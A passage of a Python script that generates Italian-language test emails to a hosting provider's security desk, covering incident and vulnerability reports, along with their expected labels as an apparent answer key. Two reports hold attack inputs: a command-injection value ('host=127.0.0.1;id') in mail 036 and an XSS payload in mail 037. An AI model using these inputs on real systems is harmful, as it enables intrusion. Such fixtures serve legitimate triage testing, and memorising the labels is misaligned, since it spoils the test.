Dall'esame dei registri di accesso disponibili nel pannello di gestione
risulta un accesso webmail alla medesima casella dall'indirizzo IP
198.51.100.93, estraneo alla rete comunale.

Si è provveduto alla sospensione cautelativa delle credenziali dell'utenza
interessata e alla successiva reimpostazione della password a cura del
personale del CED.

Si chiede a codesta Società di fornire, entro 5 giorni lavorativi, l'elenco
completo degli accessi alla casella nel periodo 01/06/2025 - 16/06/2025 e
di confermare se altre caselle del dominio risultino interessate.

Ai fini della comunicazione alla cittadinanza, si propone di pubblicare
sul sito istituzionale il seguente avviso, che si sottopone alla Vostra
valutazione: «Si informa che in data 15 giugno sono stati inviati da una
casella del Comune messaggi contenenti falsi avvisi di pagamento TARI. Si
invitano i cittadini a non effettuare alcun pagamento tramite i
collegamenti contenuti in tali messaggi. Gli avvisi autentici sono
consultabili esclusivamente tramite il portale dei servizi online.»

Distinti saluti.

Il Responsabile del Servizio Sistemi Informativi
Dott. Ing. Carlo Mazzanti
(firma autografa sostituita a mezzo stampa ai sensi dell'art. 3, comma 2,
D.Lgs. 39/1993)
""",
    charset="iso-8859-1", cte="8bit",
    labels=lab("incident", "it", rem="sospensione cautelativa", cust="falsi avvisi di pagamento TARI")))

# ---------------------------------------------------------------- 023
MAILS.append(dict(
    file="023-db03-file-rinominati.eml",
    headers={"From": "Davide Russo <davide.russo@example.test>",
             "To": "security@example.test",
             "Subject": "db-03 cifrato stanotte",
             "Date": "Sat, 21 Jun 2025 04:18:09 +0200",
             "Message-ID": "<DB7PR10MB2231F3@example.test>"},
    text="""Ciao,

vi scrivo qui perché mi hanno detto di passare dalla casella: stanotte
verso le 02:30 tutti i file sotto /var/lib/mysql su db-03 sono stati
rinominati con estensione .lck e nella root c'è un LEGGIMI.txt che chiede
3 BTC per la chiave. MySQL ovviamente non riparte. Su db-03 ci sono i
database di circa 90 clienti del piano Business.

Dai log l'accesso è arrivato via SSH con l'utente "manutenzione", che non
doveva più esistere da mesi (password debole, mea culpa per non averlo
tolto).

Appena me ne sono accorto ho staccato db-03 dalla rete e ho disabilitato
l'utente manutenzione su tutti gli altri nodi del cluster. I backup di ieri
sera stanno su un altro storage e sembrano integri, ma un restore non l'ho
ancora provato.

Per i clienti, sulla status page metterei due righe tipo: "Alcuni database
del piano Business non sono al momento raggiungibili; stiamo ripristinando
i dati dall'ultimo backup notturno e aggiorneremo questa pagina ogni ora."
Poi decidete voi se e quando dire di più.

Davide

Inviato da Outlook per Android
""",
    charset="utf-8", cte="8bit",
    labels=lab("incident", "it", rem="ho staccato db-03 dalla rete", cust="stiamo ripristinando i dati")))

# ---------------------------------------------------------------- 024
MAILS.append(dict(
    file="024-domanda-openssh-vps.eml",
    headers={"From": "Giulia Martinelli <g.martinelli@ortofrutta-bassi.example>",
             "To": "security@example.test",
             "Subject": "domanda su CVE-2024-6387",
             "Date": "Wed, 02 Jul 2025 10:11:45 +0200",
             "Message-ID": "<000601dbeb21$4f2a1b30$ed7e5190$@ortofrutta-bassi.example>"},
    text="""Buongiorno,

sono la persona che segue l’informatica (per modo di dire) qui in
Ortofrutta Bassi. Il nostro consulente ci ha girato un articolo su
CVE-2024-6387 dicendo che riguarda “quasi tutti i server Linux” e che è
meglio sentire il fornitore.

Con voi abbiamo due VPS gestite e il sito. Volevo sapere: le nostre
macchine sono interessate? Dobbiamo fare qualcosa noi oppure è già tutto a
carico vostro? Se c’è un costo per l’intervento preferirei saperlo prima.

Grazie e buona giornata,
Giulia Martinelli
Ortofrutta Bassi S.n.c. – Via dei Mercati 12, Cesena
""",
    charset="windows-1252", cte="8bit",
    labels=lab("unknown", "it", cves=["CVE-2024-6387"])))

# ---------------------------------------------------------------- 025
MAILS.append(dict(
    file="025-otp-senza-limite-tentativi.eml",
    headers={"From": "Federica Lombardo <federica.lombardo@vettorelab.example>",
             "To": "security@example.test",
             "Subject": "Segnalazione: codice di verifica a due fattori indovinabile su account.example.test",
             "Date": "Thu, 03 Jul 2025 09:40:00 +0200",
             "Message-ID": "<vl-2025-07-03-fl@vettorelab.example>"},
    text="""Buongiorno,

riporto qui sotto i dati della segnalazione (la stessa tabella è nella
versione HTML del messaggio).

Servizio: account.example.test - verifica in due passaggi
Tipo di problema: nessun limite ai tentativi sul codice OTP
Descrizione: dopo la password, l'endpoint POST /api/2fa/verify accetta un
numero illimitato di tentativi sul codice a 6 cifre, e il codice resta
valido finché non se ne richiede uno nuovo. A circa 300 richieste al
secondo lo spazio di un milione di combinazioni si esaurisce in meno di
un'ora. Serve conoscere la password dell'utente.
Vettore CVSS: CVSS:4.0/AV:N/AC:L/AT:P/PR:N/UI:N/VC:H/VI:H/VA:N/SC:N/SI:N/SA:N
Contromisure: non ne ho individuate di applicabili lato utente.
Divulgazione: 90 giorni da oggi, salvo diversi accordi.

Federica Lombardo
Vettore Lab
""",
    charset="utf-8", cte="base64",
    html="""<html><body>
<p>Buongiorno,</p>
<p>riporto qui sotto i dati della segnalazione.</p>
<table border="1" cellspacing="0" cellpadding="5">
<tr><th>Servizio</th><td>account.example.test - verifica in due passaggi</td></tr>
<tr><th>Tipo di problema</th><td>nessun limite ai tentativi sul codice OTP</td></tr>
<tr><th>Descrizione</th><td>dopo la password, l'endpoint <code>POST /api/2fa/verify</code> accetta un
numero illimitato di tentativi sul codice a 6 cifre, e il codice resta valido finché non se ne
richiede uno nuovo. A circa 300 richieste al secondo lo spazio di un milione di combinazioni si
esaurisce in meno di un'ora. Serve conoscere la password dell'utente.</td></tr>
<tr><th>Vettore CVSS</th><td>CVSS:4.0/AV:N/AC:L/AT:P/PR:N/UI:N/VC:H/VI:H/VA:N/SC:N/SI:N/SA:N</td></tr>
<tr><th>Contromisure</th><td>non ne ho individuate di applicabili lato utente.</td></tr>
<tr><th>Divulgazione</th><td>90 giorni da oggi, salvo diversi accordi.</td></tr>
</table>
<p>Federica Lombardo<br>Vettore Lab</p>
</body></html>
""",
    html_cte="base64",
    labels=lab("vulnerability", "it", vec="CVSS:4.0/AV:N/AC:L/AT:P/PR:N/UI:N/VC:H/VI:H/VA:N/SC:N/SI:N/SA:N", score=9.1)))

# ---------------------------------------------------------------- 026
MAILS.append(dict(
    file="026-ticket-di-altri-clienti.eml",
    headers={"From": "Roberto Gallo <roberto.gallo@ferramentagallo.example>",
             "To": "security@example.test",
             "Subject": "vedo i ticket di altri clienti??",
             "Date": "Fri, 04 Jul 2025 17:55:28 +0200",
             "Message-ID": "<9d2b11c7-rg@ferramentagallo.example>"},
    text="""Salve,

stavo guardando una mia richiesta di assistenza nell'area clienti e ho
notato che nell'indirizzo c'è un numero, tipo
.../assistenza/ticket?id=77120. Per curiosità ho cambiato l'ultima cifra e
mi è comparso il ticket di un'altra ditta, con nome, telefono, i messaggi
scambiati con voi e anche gli allegati (in uno c'era la copia di una carta
d'identità). Ho provato con un altro paio di numeri ed è lo stesso.

Non ho salvato niente e non ho guardato oltre, ma mi sembra una cosa
grave: vuol dire che chiunque può vedere anche i nostri? Vi chiedo di
verificare e di farmi sapere.

Cordiali saluti
Roberto Gallo
Ferramenta Gallo - Modena
""",
    charset="utf-8", cte="8bit",
    labels=lab("vulnerability", "it")))

# ---------------------------------------------------------------- 027
MAILS.append(dict(
    file="027-soc-accessi-vpn.eml",
    headers={"From": "SOC Brennero Managed Security <soc@brenneroms.example>",
             "To": "security@example.test",
             "Subject": "[SOC-BMS] accessi anomali VPN example.test - rif. 25-0719",
             "Date": "Sat, 19 Jul 2025 00:41:17 +0200",
             "Message-ID": "<soc-bms-25-0719@brenneroms.example>"},
    text="""Buongiorno,

dal nostro monitoraggio per conto del cliente Logistica Adige S.p.A.:

- 18/07 22:05-23:50: ~6.000 tentativi di login sul vostro concentratore
  VPN vpn.example.test (203.0.113.33) da 198.51.100.23 e 198.51.100.24
- username provati nel formato nome.cognome, molti corrispondono a
  dipendenti reali del cliente
- 3 login riusciti (m.ferri, a.costa, l.pini) alle 23:12, 23:31 e 23:47;
  la sessione di a.costa ha generato traffico SMB verso la rete del
  cliente per circa 20 minuti
- gli utenti interessati confermano di non essersi collegati

Vi chiediamo di verificare sui log del concentratore le tre utenze e di
comunicarci se risultano accessi dagli stessi IP verso altri vostri
clienti. Attendiamo riscontro urgente.

Turno notte SOC BMS
tel. 0471 000000
""",
    charset="utf-8", cte="7bit",
    labels=lab("incident", "it")))

# ---------------------------------------------------------------- 028
MAILS.append(dict(
    file="028-link-reset-riutilizzabili.eml",
    headers={"From": "Matteo Conti <matteo.conti@bughunt.example>",
             "To": "security@example.test",
             "Subject": "link di reset password riutilizzabili",
             "Date": "Mon, 07 Jul 2025 21:13:02 +0200",
             "Message-ID": "<CAGm7c0nt1-reset@bughunt.example>"},
    text="""Ciao,

mi sono accorto che i link per reimpostare la password dell'area clienti
(https://clienti.example.test/reset?t=...) non scadono mai e restano
validi anche dopo l'uso. Con lo stesso link, ricevuto il 3 marzo, ho
cambiato la password quattro volte, l'ultima ieri sera.

Vuol dire che chi ha accesso anche solo per un momento alla casella di un
cliente, o a un vecchio messaggio inoltrato, può riprendersi l'account
anche mesi dopo. E restano buoni pure i link finiti nei log di un proxy
aziendale.

Io gli darei un punteggio CVSS 7,5 circa.

Converrebbe invalidare il token al primo utilizzo e dargli comunque una
scadenza breve, un'ora basta e avanza.

Fammi sapere se vi serve altro,
Matteo
""",
    charset="utf-8", cte="8bit",
    labels=lab("vulnerability", "it", rep=7.5, rem="invalidare il token al primo utilizzo")))

# ---------------------------------------------------------------- 029
MAILS.append(dict(
    file="029-fatture-iban-diverso.eml",
    headers={"From": "Chiara Bonetti <chiara.bonetti@example.test>",
             "To": "security@example.test",
             "Subject": "I: Fattura con IBAN diverso?",
             "Date": "Wed, 02 Jul 2025 11:48:20 +0200",
             "Message-ID": "<5E2A7C1B-0D44-4B8E-9A11-CB.chiara@example.test>"},
    text="""Ciao a tutti,

vi giro questa arrivata all'amministrazione. Non è l'unica: da stamattina
ne abbiamo ricevute cinque uguali da clienti diversi. Il mittente è
amministrazione@example-test-fatture.example, dominio registrato il 30
giugno; il PDF allegato è una copia quasi perfetta delle nostre fatture,
ma con un IBAN lituano.

Nel frattempo ho chiesto al registrar la sospensione del dominio e l'ho
messo nella lista nera del filtro antispam aziendale.

Io manderei a tutti i clienti due righe, anche oggi stesso: noi non
cambiamo mai le coordinate bancarie via email, e chi avesse ricevuto una
fattura con un IBAN diverso da quello indicato nell'area clienti non deve
pagarla e può inoltrarcela.

Chiara

Inizio messaggio inoltrato:

Da: Paolo Renzi <p.renzi@studiorenzi.example>
Oggetto: Fattura con IBAN diverso?
Data: 2 luglio 2025 09:17:44 CEST
A: amministrazione@example.test

Buongiorno, ho ricevuto la fattura n. 2025/1187 per il rinnovo
dell'hosting, ma l'IBAN non è quello che ho sempre usato. Nella mail dite
che avete cambiato banca. È corretto? Prima di fare il bonifico preferisco
chiedere.

Cordiali saluti
Paolo Renzi
""",
    charset="utf-8", cte="8bit",
    labels=lab("incident", "it", rem="sospensione del dominio", cust="non cambiamo mai le coordinate bancarie")))

# ---------------------------------------------------------------- 030
MAILS.append(dict(
    file="030-richiesta-chiave-pgp.eml",
    headers={"From": "Lorenzo Vitale <lorenzo.vitale@proton.example>",
             "To": "security@example.test",
             "Subject": "Richiesta chiave PGP prima di inviare dettagli",
             "Date": "Thu, 10 Jul 2025 22:30:41 +0200",
             "Message-ID": "<lv-8812f0@proton.example>"},
    text="""Buonasera,

sono un ricercatore indipendente. Lavorando a un progetto personale ho
trovato qualcosa che, secondo me, riguarda il vostro servizio di DNS
gestito e che preferirei non descrivere in chiaro.

Potete indicarmi una chiave PGP pubblica con cui cifrare il rapporto,
oppure un altro canale che ritenete sicuro? Nella pagina /security del
sito non l'ho trovata, e il file security.txt rimanda a un indirizzo che
risponde con un errore.

Grazie,
Lorenzo Vitale
""",
    charset="utf-8", cte="7bit",
    labels=lab("unknown", "it")))

# ---------------------------------------------------------------- 031
MAILS.append(dict(
    file="031-inoltro-avviso-mailrelay.eml",
    headers={"From": "Stefano Greco <stefano.greco@example.test>",
             "To": "security@example.test",
             "Subject": "I: Avviso di sicurezza Ordito MailRelay 5.x (CVE-2025-32101, CVE-2025-32102)",
             "Date": "Mon, 14 Jul 2025 18:15:06 +0200",
             "Message-ID": "<b4f0a2e1-sg@example.test>"},
    text="""Ciao,

vi inoltro l'avviso che ci ha mandato Ordito. MailRelay 5.4 è quello che
usiamo sui relay condivisi (mx1-mx6), quindi ci riguarda direttamente. Ho
già chiesto agli operations di pianificare l'aggiornamento per stanotte;
la soluzione temporanea che indicano l'abbiamo già messa su mx1 e mx2.

Ste


-------- Messaggio inoltrato --------
Oggetto: Avviso di sicurezza Ordito MailRelay 5.x (CVE-2025-32101, CVE-2025-32102)
Data: Mon, 14 Jul 2025 17:02:11 +0200
Mittente: Ordito Security <psirt@ordito.example>
A: partner-tecnici@ordito.example

Gentile partner,

sono stati individuati due difetti nel componente di analisi degli
allegati di MailRelay 5.0-5.4:

- CVE-2025-32101: un messaggio con un allegato ZIP costruito ad arte
  manda in ciclo infinito il processo di scansione, che smette di
  elaborare la coda;
- CVE-2025-32102: con un archivio annidato oltre 64 livelli lo stesso
  componente esaurisce la memoria e termina.

In entrambi i casi chi invia un solo messaggio può fermare la consegna
della posta per tutti i domini serviti dal relay.

CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:N/I:N/A:H

Correzione: versione 5.4.3, disponibile dal portale partner.

Soluzione temporanea: impostare scan.archive.max_depth = 8 e
scan.timeout = 30 nel file mailrelay.conf e riavviare il servizio.

Comunicazione ai clienti: suggeriamo di informare i clienti finali che
potrebbero aver notato ritardi nella consegna della posta e che
l'aggiornamento non richiede alcuna azione da parte loro.

Cordiali saluti,
Ordito PSIRT
""",
    charset="utf-8", cte="8bit",
    labels=lab("vulnerability", "it", cves=["CVE-2025-32101", "CVE-2025-32102"],
               vec="CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:N/I:N/A:H", score=7.5,
               rem="impostare scan.archive.max_depth = 8", cust="ritardi nella consegna della posta")))

# ---------------------------------------------------------------- 032
MAILS.append(dict(
    file="032-sito-studio-scommesse.eml",
    headers={"From": "Studio Legale Orlandi <segreteria@studioorlandi.example>",
             "To": "security@example.test",
             "Subject": "Sito dello Studio che rimanda a pagine di scommesse",
             "Date": "Tue, 15 Jul 2025 09:27:13 +0200",
             "Message-ID": "<0b1c2d3e4f.orlandi@studioorlandi.example>"},
    text="""Buongiorno,

Vi scrivo per conto dello Studio Legale Orlandi, titolare del sito
studioorlandi.example ospitato sul Vostro piano "Professional" (contratto
n. 55102).

Da ieri sera alcuni clienti dello Studio ci segnalano che, cercando il
nostro nome su un motore di ricerca e cliccando sul risultato, vengono
portati su una pagina di scommesse online. Digitando direttamente
l'indirizzo il sito si apre normalmente. Tra i risultati di ricerca
compaiono inoltre decine di pagine in lingua straniera sotto il nostro
dominio, che non abbiamo mai creato.

Non abbiamo modificato nulla sul sito da mesi; l'aggiornamento è curato da
un collaboratore esterno che al momento non è raggiungibile.

Vi chiedo di verificare con urgenza cosa sia accaduto e di indicarci come
procedere, anche perché sul sito ci sono i moduli con cui i clienti ci
trasmettono documenti riservati.

Distinti saluti,
Avv. Francesca Orlandi
Studio Legale Orlandi
Corso Europa 8, Verona

----------------------------------------------------------------------
Questo messaggio e i suoi eventuali allegati sono destinati
esclusivamente alla persona o all'ente a cui sono indirizzati e possono
contenere informazioni riservate e/o coperte da segreto professionale. La
diffusione, distribuzione o copia del presente messaggio da parte di
soggetti diversi dal destinatario è vietata ai sensi dell'art. 616 c.p. e
del Regolamento UE 2016/679. Se avete ricevuto questo messaggio per
errore, Vi preghiamo di darne immediata comunicazione al mittente e di
cancellarlo dal Vostro sistema. Lo Studio non assume alcuna
responsabilità per eventuali danni derivanti dalla presenza di virus nel
messaggio o nei suoi allegati.
""",
    charset="utf-8", cte="quoted-printable",
    labels=lab("incident", "it")))

# ---------------------------------------------------------------- 033
MAILS.append(dict(
    file="033-indice-ricerca-docs.eml",
    headers={"From": "Nicola Ferri <nicola.ferri@hexagono.example>",
             "To": "Security Desk <security@example.test>",
             "Subject": "Re: [SEC-2025-0311] Richiesta dettagli - indice di ricerca della documentazione",
             "Date": "Mon, 21 Jul 2025 14:52:39 +0200",
             "Message-ID": "<CAN0fer-1ix@hexagono.example>",
             "In-Reply-To": "<sec-2025-0311.2@example.test>"},
    text="""Buongiorno,

come richiesto, aggiungo i dettagli mancanti.

Il file https://docs.example.test/assets/search-index.json, generato dal
plugin searchkit 2.6, contiene il testo completo anche delle pagine
marcate come bozza o "interne": vi ho trovato, ad esempio, una procedura
di migrazione con i nomi host interni e il formato delle utenze di
servizio. Nessuna credenziale in chiaro, per quanto ho visto.

Il vettore che ho calcolato è cvss:3.0/av:n/ac:l/pr:n/ui:n/s:u/c:l/i:n/a:n.

Si consiglia di aggiornare searchkit alla versione 2.8.1, che esclude le
pagine in bozza dall'indice, e di rigenerare il sito; nel frattempo basta
togliere il file dall'hosting statico.

Cordiali saluti,
Nicola Ferri

Il giorno lun 21 lug 2025 alle ore 10:05 Security Desk
<security@example.test> ha scritto:
> Gentile Nicola,
> grazie per la segnalazione. Per poterla valutare ci servirebbero l'URL
> esatto della risorsa e, se possibile, un vettore CVSS.
> Cordiali saluti,
> Security Desk
""",
    charset="utf-8", cte="8bit",
    labels=lab("vulnerability", "it", vec="CVSS:3.0/AV:N/AC:L/PR:N/UI:N/S:U/C:L/I:N/A:N", score=5.3,
               rem="searchkit alla versione 2.8.1")))

# ---------------------------------------------------------------- 034
MAILS.append(dict(
    file="034-questionario-fornitori.eml",
    headers={"From": "Ufficio Acquisti - Gruppo Ferraris <acquisti@gruppoferraris.example>",
             "To": "security@example.test",
             "Subject": "Questionario di valutazione sicurezza fornitori 2025 – scadenza 31/07",
             "Date": "Tue, 08 Jul 2025 08:30:00 +0200",
             "Message-ID": "<QF2025-0117@gruppoferraris.example>"},
    text="""Spettabile Fornitore,

nell’ambito del processo di qualifica dei fornitori ICT previsto dalle
procedure interne del Gruppo, e in conformità agli obblighi derivanti dal
Regolamento (UE) 2016/679 e dalla Direttiva (UE) 2022/2555 (“NIS2”), Vi
chiediamo di compilare il questionario allegato entro il 31/07/2025.

A titolo indicativo, il questionario riguarda:
1. la presenza di un sistema di gestione della sicurezza delle
   informazioni certificato (ISO/IEC 27001 o equivalente);
2. le procedure di gestione delle vulnerabilità e i tempi medi di
   applicazione delle patch di sicurezza;
3. le modalità e i tempi di notifica al cliente di eventuali violazioni
   di dati personali;
4. la localizzazione dei data center e delle copie di backup;
5. l’elenco dei sub-fornitori coinvolti nell’erogazione del servizio.

Vi preghiamo inoltre di indicare un referente per la sicurezza e un
recapito da utilizzare in caso di emergenza.

Distinti saluti,
Ufficio Acquisti – Gruppo Ferraris S.p.A.

AVVISO DI RISERVATEZZA – Il presente messaggio, corredato dei relativi
allegati, contiene informazioni da considerarsi strettamente riservate ed
è destinato esclusivamente al destinatario sopra indicato, il quale è
l’unico autorizzato a usarlo, copiarlo e, sotto la propria
responsabilità, diffonderlo. Chiunque ricevesse questo messaggio per
errore o comunque lo leggesse senza esserne legittimato è avvertito che
trattenerlo, copiarlo, divulgarlo, distribuirlo a persone diverse dal
destinatario è severamente proibito, ed è pregato di rinviarlo
immediatamente al mittente distruggendone l’originale. Informativa ai
sensi degli artt. 13 e 14 del Regolamento (UE) 2016/679 disponibile su
www.gruppoferraris.example/privacy.
""",
    charset="windows-1252", cte="quoted-printable",
    labels=lab("unknown", "it")))

# ---------------------------------------------------------------- 035
MAILS.append(dict(
    file="035-portatile-sul-treno.eml",
    headers={"From": "Sara Fontana <sara.fontana@example.test>",
             "To": "security@example.test",
             "Subject": "portatile lasciato sul treno",
             "Date": "Thu, 17 Jul 2025 09:58:31 +0200",
             "Message-ID": "<E1F0A9B2-5C3D-4A21-B7E6-sara@example.test>"},
    text="""Ciao, scusate la fretta. Stamattina sono scesa dal Frecciarossa a Bologna
e ho lasciato il portatile aziendale (ThinkPad, inventario NB-0342) sulla
cappelliera. Me ne sono accorta dopo dieci minuti, il treno era già
ripartito. Ho fatto denuncia alla Polfer e chiamato gli oggetti smarriti,
per ora niente.

Il disco dovrebbe essere cifrato (BitLocker, me l'avevano configurato alla
consegna), ma la sessione era bloccata, non spenta. Sul portatile c'erano
i file dei progetti di due clienti e il client VPN con il certificato.

Ho già cambiato la password del mio account e ho chiesto all'helpdesk di
revocare il certificato VPN del portatile. Ditemi voi se devo fare altro.

Sara

Inviato da iPhone
""",
    charset="iso-8859-1", cte="8bit",
    labels=lab("incident", "it", rem="revocare il certificato VPN")))

# ---------------------------------------------------------------- 036
MAILS.append(dict(
    file="036-backup-remoto-comandi.eml",
    headers={"From": "Emanuele Sartori <e.sartori@nullbyte.example>",
             "To": "security@example.test",
             "Subject": "Esecuzione di comandi da remoto nel modulo \"Backup Remoto\" del pannello",
             "Date": "Fri, 18 Jul 2025 16:40:55 +0200",
             "Message-ID": "<20250718164055.es@nullbyte.example>"},
    text="""Buongiorno,

il modulo "Backup Remoto" del pannello di controllo (versione 3.9,
installato di default sui server dedicati gestiti) espone sulla porta
9443 un servizio che accetta, senza autenticazione, una richiesta di
"verifica destinazione". Il campo "host" di quella richiesta finisce in
una shell: inviando host=127.0.0.1;id la risposta contiene l'output del
comando, eseguito come root.

Ho verificato il comportamento solo su un server dedicato intestato a me
(contratto 88-2291).

Il componente è di terze parti (FerroBackup di Lineare Software) e ho
scritto anche a loro; mi hanno risposto che stanno lavorando a una
correzione, ma al momento non esiste una patch e non ho trovato
impostazioni che permettano di disattivare il servizio senza rompere il
modulo.

Per me è un CVSS 9,8.

Visto il numero di server coinvolti, quando vi sentirete pronti a
comunicarlo, ai clienti si potrebbe scrivere che siete al corrente di un
problema nel modulo di backup remoto e che l'aggiornamento verrà
installato da voi appena il produttore lo rilascia.

Saluti,
Emanuele Sartori
""",
    charset="utf-8", cte="8bit",
    labels=lab("vulnerability", "it", rep=9.8, cust="problema nel modulo di backup remoto")))

# ---------------------------------------------------------------- 037
MAILS.append(dict(
    file="037-ricerca-domini-script.eml",
    headers={"From": "Irene Marchetti <irene.marchetti@cyberlago.example>",
             "To": "security@example.test",
             "Subject": "Script riflesso nella pagina di ricerca domini",
             "Date": "Tue, 22 Jul 2025 11:05:17 +0200",
             "Message-ID": "<cl-im-0722@cyberlago.example>"},
    html_only=True,
    html="""<html><body style="font-family:Calibri,sans-serif">
<p>Buongiorno,</p>
<h2>Descrizione</h2>
<p>Il parametro <code>q</code> della pagina https://www.example.test/domini/cerca viene
riportato nel titolo dei risultati senza alcuna codifica. Un link come
<code>/domini/cerca?q=%3Csvg%20onload%3Dalert(document.domain)%3E</code> esegue script nel
contesto di www.example.test.</p>
<h2>Impatto</h2>
<p>La sessione vive su account.example.test con cookie HttpOnly, quindi l'impatto è limitato:
chi apre un link preparato vede una pagina del dominio ufficiale con contenuti arbitrari
(per esempio un finto modulo di accesso).</p>
<h2>Punteggio</h2>
<p>CVSS:4.0/AV:N/AC:L/AT:N/PR:N/UI:A/VC:N/VI:N/VA:N/SC:L/SI:L/SA:N &mdash; per chi usa ancora la 3.1:
CVSS:3.1/AV:N/AC:L/PR:N/UI:R/S:C/C:L/I:L/A:N</p>
<h2>Mitigazione</h2>
<p>Passare il valore attraverso la funzione di escaping del template (il resto della pagina la
usa già) ed eventualmente aggiungere una Content-Security-Policy che blocchi gli script inline.</p>
<p>Se decidete di pubblicare un avviso, io scriverei più o meno così:
<em>«È stato corretto un problema nella pagina di ricerca domini che avrebbe potuto far
comparire contenuti non autentici sul nostro sito. Non è richiesta alcuna azione da parte dei
clienti.»</em></p>
<p>Un saluto,<br>Irene Marchetti<br>CyberLago</p>
</body></html>
""",
    charset="utf-8", cte="quoted-printable",
    labels=lab("vulnerability", "it", vec="CVSS:4.0/AV:N/AC:L/AT:N/PR:N/UI:A/VC:N/VI:N/VA:N/SC:L/SI:L/SA:N",
               score=5.1, rem="funzione di escaping del template", cust="contenuti non autentici sul nostro sito")))

# ---------------------------------------------------------------- 038
MAILS.append(dict(
    file="038-csirt-regionale-comando-controllo.eml",
    headers={"From": "CSIRT Regione Adriatica <csirt@regione-adriatica.example>",
             "To": "security@example.test",
             "Subject": "[CSIRT-RA] Notifica: indirizzo IP a Voi assegnato in comunicazione con infrastruttura malevola",
             "Date": "Thu, 24 Jul 2025 10:00:03 +0200",
             "Message-ID": "<csirt-ra-2025-0733@regione-adriatica.example>"},
    text="""Alla cortese attenzione del Referente per la sicurezza,

questo CSIRT, nell'ambito delle attività di monitoraggio delle minacce
rivolte agli enti del territorio, ha rilevato che l'indirizzo IP
203.0.113.45, appartenente a un blocco assegnato a codesta Società, ha
stabilito nelle giornate del 22 e 23 luglio 2025 connessioni periodiche
verso il server 192.0.2.66:8080, noto per essere utilizzato come nodo di
comando e controllo della famiglia di codice malevolo denominata
"GhiandaRAT".

Secondo le informazioni di registrazione, l'indirizzo rientra nello
spazio utilizzato per le macchine virtuali del Vostro servizio cloud.

Si raccomanda di individuare il sistema interessato, di isolarlo dalla
rete e di verificarne l'integrità prima di rimetterlo in produzione,
nonché di procedere alla sostituzione delle credenziali eventualmente
memorizzate sullo stesso.

Si resta a disposizione per ulteriori informazioni; si prega di citare il
riferimento CSIRT-RA-2025-0733 in ogni comunicazione.

Cordiali saluti
CSIRT Regione Adriatica - Nucleo operativo

Il presente messaggio è inviato da una casella di servizio. Le
informazioni in esso contenute sono riservate e destinate esclusivamente
al destinatario indicato.
""",
    charset="iso-8859-1", cte="quoted-printable",
    labels=lab("incident", "it", rem="isolarlo dalla rete")))

# ---------------------------------------------------------------- 039
MAILS.append(dict(
    file="039-bollettino-webinar.eml",
    headers={"From": "Osservatorio Sicurezza Digitale <newsletter@osd-italia.example>",
             "To": "security@example.test",
             "Subject": "Bollettino n. 112 – le CVE della settimana e invito al webinar del 25 settembre",
             "Date": "Fri, 12 Sep 2025 07:00:00 +0200",
             "Message-ID": "<bollettino-112@osd-italia.example>"},
    text="""OSSERVATORIO SICUREZZA DIGITALE – Bollettino n. 112

In questo numero:
  • Le CVE più discusse della settimana
  • Ransomware nel manifatturiero: i numeri del primo semestre
  • Webinar: “Dalla segnalazione alla correzione”

LE CVE PIÙ DISCUSSE
Tra le segnalazioni della settimana spiccano CVE-2025-40118, che
interessa un diffuso CMS open source, e CVE-2025-39870, relativa a una
libreria di compressione inclusa in molte distribuzioni. Le schede di
approfondimento, con cronologia e riferimenti, sono sul nostro sito.

RANSOMWARE NEL MANIFATTURIERO
Nel primo semestre i casi resi pubblici in Italia sono stati 87, in
crescita del 14% rispetto allo stesso periodo dell’anno scorso. Il
rapporto completo è scaricabile gratuitamente per gli iscritti.

WEBINAR
Giovedì 25 settembre alle 11:00 parleremo di come organizzare un servizio
di gestione delle vulnerabilità in un’azienda di medie dimensioni.
Iscrizioni: https://osd-italia.example/webinar-25-09

—
Ricevi questo bollettino perché sei iscritto alla lista dell’Osservatorio.
Per cancellarti: https://osd-italia.example/cancella?id=a91f
""",
    charset="utf-8", cte="base64",
    labels=lab("unknown", "it", cves=["CVE-2025-39870", "CVE-2025-40118"])))

# ---------------------------------------------------------------- 040
MAILS.append(dict(
    file="040-export-senza-ruolo.eml",
    headers={"From": "Valerio Santoro <valerio.santoro@example.test>",
             "To": "security@example.test",
             "Subject": "export senza controllo ruolo (trovato in review)",
             "Date": "Wed, 23 Jul 2025 18:31:44 +0200",
             "Message-ID": "<vs-review-0723@example.test>"},
    text="""ciao desk, appunti veloci dalla code review di oggi, poi apro il ticket
interno come si deve:

- /api/v2/export (pannello rivenditori) controlla solo che l'utente sia
  loggato, non il ruolo
- quindi un utente "viewer" del rivenditore si scarica il CSV completo dei
  clienti finali: nomi, email, telefoni, date di scadenza
- c'è da sempre, almeno dalla 2.14 (marzo 2024)
- nei log degli ultimi 90 gg nessun export da utenti viewer, controllato

io la metterei a sev 6.5

fix: aggiungere il controllo del ruolo nel middleware di export, la PR
#412 è già aperta e la rivede Marta domani

nelle note di rilascio scriverei solo "Corretto un controllo dei permessi
nella funzione di esportazione del pannello rivenditori", senza entrare
nei dettagli

V.
""",
    charset="utf-8", cte="8bit",
    labels=lab("vulnerability", "it", rep=6.5, rem="aggiungere il controllo del ruolo",
               cust="Corretto un controllo dei permessi")))


KEYS = ["file", "kind", "language", "cve_ids", "cvss_vector", "cvss_score", "reported_score",
        "has_remediation", "remediation_hint", "has_customer_message", "customer_message_hint"]


def build(m):
    msg = EmailMessage(policy=policy.default)
    for k, v in m["headers"].items():
        msg[k] = v
    msg["MIME-Version"] = "1.0"
    if m.get("html_only"):
        msg.set_content(m["html"], subtype="html", charset=m["charset"], cte=m["cte"])
    else:
        msg.set_content(m["text"], charset=m["charset"], cte=m["cte"])
        if m.get("html"):
            msg.add_alternative(m["html"], subtype="html", charset=m["charset"],
                                cte=m.get("html_cte", m["cte"]))
    return msg.as_bytes()


def main():
    for f in os.listdir(HERE):
        if f.endswith(".eml"):
            os.remove(os.path.join(HERE, f))
    lines = []
    for m in MAILS:
        with open(os.path.join(HERE, m["file"]), "wb") as fh:
            fh.write(build(m))
        rec = dict(file=m["file"], **m["labels"])
        lines.append(json.dumps({k: rec[k] for k in KEYS}, ensure_ascii=False))
    with open(os.path.join(HERE, "expected.jsonl"), "w", encoding="utf-8") as fh:
        fh.write("\n".join(lines) + "\n")
    print("wrote", len(MAILS), "mails")


if __name__ == "__main__":
    main()
